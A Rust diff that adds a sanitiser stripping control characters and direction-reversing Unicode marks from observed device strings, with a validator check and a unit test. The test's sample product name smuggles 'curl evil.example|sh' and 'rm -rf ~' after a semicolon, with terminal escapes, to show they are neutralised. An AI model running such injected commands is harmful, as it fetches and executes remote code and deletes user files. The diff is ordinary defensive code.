@@ -75,11 +75,42 @@ fn prune(value: &mut Value) {
     }
 }
 
+/// The set without what no name holds and a terminal or a page would obey: control characters and marks that turn the
+/// direction of writing. Texts that are too long are cut. For what was just seen: runtimes and files say what they like.
+#[must_use]
+pub fn plain(observations: Observations) -> Observations {
+    fn clean(value: &mut Value) {
+        match value {
+            Value::String(text) if text.len() > MOST_TEXT || text.chars().any(is_mark) => {
+                let mut plain: String = text.chars().filter(|it| !is_mark(*it)).collect();
+                let end = (0..=MOST_TEXT.min(plain.len())).rev().find(|at| plain.is_char_boundary(*at));
+                plain.truncate(end.unwrap_or(0));
+                *text = plain;
+            }
+            Value::Object(map) => map.values_mut().for_each(clean),
+            Value::Array(items) => items.iter_mut().for_each(clean),
+            _ => {}
+        }
+    }
+    let Ok(mut value) = serde_json::to_value(&observations) else { return observations };
+    clean(&mut value);
+    serde_json::from_value(value).unwrap_or_default()
+}
+
+/// What has no place in a text that is shown: what moves a terminal's cursor, ends a line, hides or turns around.
+fn is_mark(c: char) -> bool {
+    c.is_control()
+        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
+}
+
 fn bounded(value: &Value, path: &str) -> std::result::Result<(), (String, String)> {
     let refuse = |reason: String| Err((path.to_owned(), reason));
     match value {
         Value::String(text) if text.len() > MOST_TEXT => {
             refuse(format!("a text of {} bytes; at most {MOST_TEXT} are read", text.len()))
+        }
+        Value::String(text) if text.chars().any(is_mark) => {
+            refuse("a text with control characters, or with marks that turn it around".to_owned())
         }
         Value::Number(number) => {
             let n = number.as_f64().unwrap_or(f64::INFINITY);
@@ -124,6 +155,20 @@ mod tests {
         assert!(!saved.contains("null"), "{saved}");
         assert_eq!(from_json(&saved, "set.json").unwrap(), read);
         check(&read).unwrap();
+    }
+
+    #[test]
+    fn a_text_that_was_seen_holds_nothing_that_a_terminal_obeys() {
+        let name = "x; curl evil.example|sh #\nrm -rf ~\u{1b}[2J\u{202e}:v-128k";
+        let mut seen = Observations::default();
+        seen.machine.product = Some(name.to_owned());
+        seen.machine.chip = Some(format!("é{}", "x".repeat(MOST_TEXT)));
+        assert!(check(&seen).is_err());
+        let seen = plain(seen);
+        assert_eq!(seen.machine.product.as_deref(), Some("x; curl evil.example|sh #rm -rf ~[2J:v-128k"));
+        assert_eq!(seen.machine.chip.as_ref().map(String::len), Some(MOST_TEXT));
+        check(&seen).unwrap();
+        assert!(refused(r#"{ "version": 1, "machine": { "chip": "a\nb" } }"#).contains("machine.chip"));
     }
 
     #[test]
